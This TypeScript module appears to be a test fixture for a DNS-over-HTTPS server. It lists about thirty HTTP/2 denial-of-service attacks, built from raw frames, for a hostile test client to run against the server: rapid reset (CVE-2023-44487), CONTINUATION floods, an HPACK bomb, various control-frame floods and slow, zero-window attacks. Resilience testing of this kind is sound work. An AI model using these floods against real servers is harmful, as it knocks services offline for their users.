import { FLAG, FRAME, fields, frame, SETTING, settings, u32 } from '../../fixtures/dns/http2-frames.ts';
import { buildQuery } from '../../fixtures/dns/messages.ts';
import { dohTarget } from './honest-clients.ts';
import type { HostileHttp2Client, Http2ClientInit } from './hostile-http2-client.ts';
import { LARGE_NAME } from './large-answer.ts';

/** What a client does to a server of DoH on one or several connections. */
export interface Http2Attack extends Pick<Http2ClientInit, 'greeting' | 'acknowledges' | 'reads'> {
  /** @default 1 */
  readonly connections?: number;
  readonly run: (client: HostileHttp2Client) => void;
  /** Slow rather than loud: the attack goes on beside the others until the server closes its connections. */
  readonly isSlow?: boolean;
}

const NAME = 'cached.dns4tor-lab.net';
const TARGET = dohTarget(buildQuery({ id: 0, name: NAME }));
const RESETS = 100_000;
/** Pairs of frames in one write. */
const BATCH = 100;
const OPEN_STREAMS = 2000;
/** Below the default of --tcp-pipelined. */
const ALLOWED_STREAMS = 90;
const MAX_FRAME_BYTES = 16_384;
const MAX_WINDOW = 0x7fff_ffff;
const CANCEL = 8;

const fieldsOf = (target: string): Buffer =>
  fields([':method', 'GET'], [':scheme', 'https'], [':authority', 'localhost'], [':path', target]);
const GET = fieldsOf(TARGET);
const GET_LARGE = fieldsOf(dohTarget(buildQuery({ id: 0, name: LARGE_NAME })));
const POST = fields(
  [':method', 'POST'],
  [':scheme', 'https'],
  [':authority', 'localhost'],
  [':path', '/dns-query'],
  ['content-type', 'application/dns-message'],
);

const idOf = (request: number): number => 2 * request + 1;
const get = (request: number, block = GET): Buffer =>
  frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, idOf(request), block);
const post = (request: number): Buffer => frame(FRAME.headers, FLAG.endHeaders, idOf(request), POST);
const reset = (request: number): Buffer => frame(FRAME.rstStream, 0, idOf(request), u32(CANCEL));
const many = (count: number, each: (index: number) => Uint8Array): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, index) => each(index)));

/** Floods with batches for the requests 0 to {@link RESETS}. */
const floodOfRequests =
  (each: (request: number) => Uint8Array): Http2Attack['run'] =>
  ({ flood }) => {
    let next = 0;
    flood(() => {
      if (next >= RESETS) return undefined;
      const first = next;
      next += BATCH;
      return many(BATCH, (index) => each(first + index));
    });
  };

/** Floods with the same frames. */
const floodOf =
  (chunk: Uint8Array, ...before: readonly Uint8Array[]): Http2Attack['run'] =>
  ({ socket, flood }) => {
    for (const each of before) socket.write(each);
    flood(() => chunk);
  };

/** Writes once. */
const once =
  (...frames: readonly Uint8Array[]): Http2Attack['run'] =>
  ({ socket }) =>
    void socket.write(Buffer.concat(frames));

const PING = frame(FRAME.ping, 0, 0, new Uint8Array(8));
const FIELD = fields(['x', 'y'.repeat(100)]);

/** A field that the dynamic table keeps (RFC 7541 §6.2.1), and 12,000 references to it: 48 MB in all. */
const BOMB = Buffer.concat([
  GET,
  Buffer.from([0x40]),
  fields(['bomb', 'b'.repeat(3900)]).subarray(1),
  Buffer.alloc(12_000, 0xbe),
]);

/** Attacks of an HTTP/2 client on its server, by name. */
export const HTTP2_ATTACKS: Readonly<Record<string, Http2Attack>> = {
  'rapid reset: 100,000 requests, each reset at once (CVE-2023-44487)': {
    run: floodOfRequests((request) => Buffer.concat([get(request), reset(request)])),
  },
  '100,000 requests whose streams the server must reset (CVE-2025-8671)': {
    run: floodOfRequests((request) =>
      Buffer.concat([post(request), frame(FRAME.windowUpdate, 0, idOf(request), u32(0))]),
    ),
  },
  'endless CONTINUATION frames (CVE-2024-27316)': {
    run: floodOf(
      frame(
        FRAME.continuation,
        0,
        1,
        many(100, () => FIELD),
      ),
      frame(FRAME.headers, 0, 1, GET),
    ),
  },
  'endless empty CONTINUATION frames': {
    run: floodOf(
      many(100, () => frame(FRAME.continuation, 0, 1)),
      frame(FRAME.headers, 0, 1, GET),
    ),
  },
  'an HPACK bomb in each of many requests (CVE-2016-6581)': {
    run: floodOfRequests((request) => frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, idOf(request), BOMB)),
  },
  'ten thousand cookies in each of many requests': {
    run: floodOfRequests((request) => {
      const crumbs = many(2500, () => Buffer.from([0x0f, 0x11, 0x01, 0x61]));
      return frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, idOf(request), Buffer.concat([GET, crumbs]));
    }),
  },
  'requests with 64 kB of header fields': {
    run: floodOfRequests((request) => {
      const large = fields(['x', 'y'.repeat(16_000)]);
      return Buffer.concat([
        frame(FRAME.headers, FLAG.endStream, idOf(request), GET),
        many(4, (index) => frame(FRAME.continuation, index === 3 ? FLAG.endHeaders : 0, idOf(request), large)),
      ]);
    }),
  },
  'a flood of PING that is read': { run: floodOf(many(100, () => PING)) },
  'a flood of PING whose answers are not read (CVE-2019-9512)': {
    reads: false,
    run: floodOf(many(100, () => PING)),
    isSlow: true,
  },
  'a flood of SETTINGS (CVE-2019-9515)': {
    run: floodOf(many(100, () => settings([SETTING.headerTableSize, 100]))),
  },
  'a flood of SETTINGS whose answers are not read': {
    reads: false,
    run: floodOf(many(100, () => settings([SETTING.headerTableSize, 100]))),
  },
  'a flood of PRIORITY (CVE-2019-9513)': {
    run: floodOf(many(100, (index) => frame(FRAME.priority, 0, idOf(index), Buffer.concat([u32(0), Buffer.of(1)])))),
  },
  'a flood of WINDOW_UPDATE': {
    run: floodOf(many(100, () => frame(FRAME.windowUpdate, 0, 0, u32(1)))),
  },
  'a flood of empty DATA frames (CVE-2019-9518)': {
    run: floodOf(
      many(100, () => frame(FRAME.data, 0, 1)),
      post(0),
    ),
  },
  'a flood of DATA frames that are padding only': {
    run: floodOf(
      many(10, () => frame(FRAME.data, FLAG.padded, 1, Buffer.alloc(256, 0).fill(255, 0, 1))),
      post(0),
    ),
  },
  'a flood of frames of an unknown type': {
    run: floodOf(many(100, () => frame(0x42, 0, 0, new Uint8Array(100)))),
  },
  'more padding than the frame has': {
    run: once(frame(FRAME.headers, FLAG.endHeaders | FLAG.padded, 1, Buffer.concat([Buffer.of(255), GET]))),
  },
  'a window that overflows': {
    run: once(many(2, () => frame(FRAME.windowUpdate, 0, 0, u32(MAX_WINDOW)))),
  },
  'a body beyond the window': {
    run: floodOf(frame(FRAME.data, 0, 1, new Uint8Array(MAX_FRAME_BYTES)), post(0)),
  },
  'a frame that is too large': {
    run: once(frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, 1, new Uint8Array(MAX_FRAME_BYTES + 1))),
  },
  'a field that the table of HPACK does not have': {
    run: once(frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, 1, Buffer.of(0xff, 0x20))),
  },
  'a request with the ID of a server': {
    run: once(frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, 2, GET)),
  },
  'a push from the client': {
    run: once(get(0), frame(FRAME.pushPromise, FLAG.endHeaders, 1, Buffer.concat([u32(2), GET]))),
  },
  'requests whose answers have no window': {
    greeting: settings([SETTING.initialWindowSize, 0]),
    connections: 5,
    run: once(many(OPEN_STREAMS, (request) => get(request))),
    isSlow: true,
  },
  'large answers that have no window': {
    greeting: settings([SETTING.initialWindowSize, 0]),
    connections: 30,
    run: once(many(ALLOWED_STREAMS, (request) => get(request, GET_LARGE))),
    isSlow: true,
  },
  'requests whose answers are not read': {
    reads: false,
    connections: 5,
    run: floodOfRequests((request) => get(request)),
    isSlow: true,
  },
  'thousands of requests that never end': { connections: 5, run: once(many(OPEN_STREAMS, post)), isSlow: true },
  'bodies of one octet at a time': {
    connections: 20,
    run: ({ socket, every }) => {
      socket.write(Buffer.concat([post(0), post(1)]));
      every(100, () => socket.write(many(2, (request) => frame(FRAME.data, 0, idOf(request), Buffer.of(0)))));
    },
    isSlow: true,
  },
  'header fields that never end': { connections: 20, run: once(frame(FRAME.headers, 0, 1, GET)), isSlow: true },
  'nothing after the SETTINGS': { connections: 20, run: () => {}, isSlow: true },
};
